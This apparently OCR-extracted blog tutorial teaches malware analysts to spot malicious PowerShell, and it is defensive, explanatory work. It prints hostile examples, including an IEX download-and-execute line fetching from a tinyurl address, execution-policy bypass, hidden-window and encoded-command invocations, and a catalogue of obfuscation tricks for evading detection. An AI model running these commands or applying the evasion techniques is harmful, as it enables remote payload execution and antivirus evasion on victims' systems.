Powershell 101 in Malware Analysis


PowerShell attacks are currently the popular weapon of alternative for several of those attacks as a result of it provides variety of techniques for bypassing existing security. Not least of all, the flexibility to run directly in memory and remotely download payloads gave a lot of benefits to attacker.

Let’s learn a little bit about Powershell malicious command line.


powershell -nop -noe -Command IEX (New-Object System.Net.WebClient).DownloadString('https://tinyurl.com/y5nupk4e')

Powershell command that are use to download “something” can be consider as a high potentially of a malicious attack. The command above indicate that the command is run to download strings (payload) at URL https://tinyurl.com/y5nupk4e. A goodware will never do such a thing to download their file using powershell command.Lower and upper case letters

Powershell -ExecUTIONPoLICy BypASs -wiNDoWSTYLe hidDeN(NEW-objecT.SYstEM.NET.wEbCLIeNt).DOWnLoADFiLE(<removed>);

This pattern of powershell is using alternating lower and upper case letters to execute their command. It’s a high potentially of a malicious command when it come with this pattern.

Using short flags

Powershell -nop -w hidden -e <encoded text>
Powershell -nop -w hidden -e <ps1 file>

Sometimes, this pattern of command uses by goodwares to does their job backgroundly. If the command included a long encoded text, I can 100% sure that those command is a malicious. Legit software will never use encoded text to execute it’s job.

For .ps1 part, recognizing the location of the ps1 file and its name can help us to determine it’s a malicious or not. If you can get the hash of the .ps1, drop it into Google/Virustotal/Sandbox to futher investigation.

Short flags reference:

Parameters short parameters
-Command -c
-EncodedArguments -ea, -encodeda
-EncodedCommand -e, -ec, -enc
-ExecutionPolicy -ex, -ep
-File -f
-Help -h,-? or /h,/?-InputFormat -i, -if
-NoExit -noe
-NoLogo -nol
-NoProfile -nop
-NonInteractive -noni
-OutputFormat -o, -of
-Sta -s
-WindowStyle -w

For more information about parameters, refer this Microsoft docs.

Also this picture explained it all:


Using encoded commands

Powershell -EncodedCommand SQBmACgAJABQAFMAVgB
Powershell -enc SQBmACgAJABQAFMAVgB

The -encodedcommand is long version of -e parameter. They both does a same job where is the function of this parameter is to execute encoded command.

Invoke expression

Powershell -Invoke-Expression (("New-Object Net.WebClient")).(’Downloadfile.ps1’)

Invoke-Expression or IEX cmdlet evaluates or runs a specified string as a command. So, anything after Invoke-Expression will be assume as command execution.

Using ”[char]” instead of a character

Powershell ... $cs = [char]71; $fn = $env:temp+$cs; ...Malware often usen “[char]” to replace with character to evade or bypass AV. Also this type of command pattern often used to slow malware analyst’s investigation progress.

Reading data in base 64

IEX $s=New-Object IO.MemoryStream([Convert]::FromBase64String(’<removed>’));

Base64 encoding often used in malware payload.

Using UTF8 encoding


Using a random name for a variable in every run

powershell iex $env:vruuyg

Example of usage: 2020-08-03-14-11-32

If we look into properties’s envinronment, we can see that the variable pajsj has value of the command execution.


and many more…

We need to consider these command-line arguments, such as:

ExecutionPolicy Bypass,
-Exec Bypass,
-ep bypass,
-WindowStyle Hidden,
-w Hidden

Example of powershell obfuscation:


3 layer obfuscation:


A code snapshot of macro malware that uses “^” for command shell obfuscation


Another complex obfuscation in malware wild.


and many more.

Short note on obfuscation

  • The URL is just a string, so can be concatenated and written in other ways such as “h” + “ttp”. Additional string obfuscation techniques are covered below.
  • System is optional in PowerShell type names, so System.Net.WebClient can be written as Net.WebClient
  • PowerShell can use either single or double quotes in strings. Whitespace can be added almost anywhere, so DownloadString(‘ could just aseasily be written as DownloadString( “
  • The WebClient class offers many methods to download content in addition to DownloadString, such as DownloadFile, DownloadData, and OpenReadAsync
  • Method names such as DownloadString can be included in quotes and have escape characters included to create a syntax like

Because it can be treated as a string, string-based obfuscation techniques such as concatenation and reordering can also be used on the method name.

  • Similar to method names, the Net.WebClient argument to New-Object can be obfuscated with escape characters, string-based obfuscation techniques, and concatenation across multiple variables. That canproduce a result like:
    (New-Object $var1$var2)
  • PowerShell command names often have aliases. For example, Invoke-Expression can also be referred to as iex.
  • Even when commands do not have aliases, the Get-Command command lets a script author query the PowerShell command list and invoke the result. This query can include wildcards, so invoking New-Object can look like this: & (Get-Command *w-O*). The invocation (&) operator in this example has an alternative, which is the dot (.) operator. The Get-Command cmdlet has an alias and can be dynamically invoked similarly, so is not safe to key on.
  • In addition to Get-Command as a mechanism to query command names, PowerShell offers several API-style methods to query command names – such as $executionContext.InvokeCommand.GetCommand().
  • The invocation (& and .) operators support string arguments. These can be easily obscured using obfuscation techniques such as string concatenation and string reordering.
  • Detection of Invoke-Expression suffers from the same challenges of command obfuscation that New-Object and Get-Command suffer from. It is also popular in non-malicious contexts, making false positives based on this indicator a significant challenge.
  • Invoke-Expression is not the only cmdlet or technique that can be used to invoke dynamicallygenerated code. Other alternatives are Invoke-Command, Script Block invocation (such as & [Scriptblock]::Create("Write-Host Script Block Conversion") ), and dynamic script invocation APIs such as $ExecutionContext.InvokeCommand.InvokeScript("Write-Host EXPRESSION").

String obfuscation

Anything that allows a string as an argument can be obfuscated using string obfuscation techniques.• String concatenation is a common way to break up identifiable strings. If a signature is written for the term, “http”, it can also be written as “h” + “ttp”. The most common form of concatenation is the ‘+’ operator, but PowerShell’s –join operator can also be used. In addition to PowerShell techniques, the String.Join() and String.Concat() methods from .NET can accomplish the same goals.
  • PowerShell’s –f string formatting operator, based on the C# String.Format method, can create strings at runtime. The format operator uses format tokens like {0} and {1} to identify the order of replacement strings, so obfuscating the invocation of New-Object might look like this with format operator obfuscation applied: & ("{1}{0}{2}" -f 'wOb','Ne','ject').
  • Strings can be reversed through several mechanisms, such as PowerShell’s array slicing operator (-join "detacsufbO"[9..0]), Array.Reverse ($a = [char[]]"detacsufbO"; [Array]::Reverse($a); -join $a), reverse regular expression matching (-join [RegEx]::Matches("detacsufbO",'.','RightToLeft')), and others.
  • Strings can be split by an arbitrary delimiter, and then rejoined: -join ("Obf~~usc~~ated" -split "~~")
  • Through the –replace operator or the String.Replace() method, strings can be replaced either to remove delimiters, or change the meaning of a string: "System.SafeClass" -replace "Safe","Unsafe"


  1. https://www.blackhat.com/docs/us-17/thursday/us-17-Bohannon-Revoke-Obfuscation-PowerShell-Obfuscation-Detection-And%20Evasion-Using-Science-wp.pdf
  2. Research Paper “Detecting Malicious PowerShell Commands using Deep Neural Networks” by Danny Hendler, Shay Kels and Amir Rubin.
  3. https://www.trendmicro.com/vinfo/pl/security/news/security-technology/security-101-the-rise-of-fileless-threats-that-abuse-powershell
  4. https://www.fireeye.com/content/dam/fireeye-www/blog/pdfs/revoke-obfuscation-report.pdf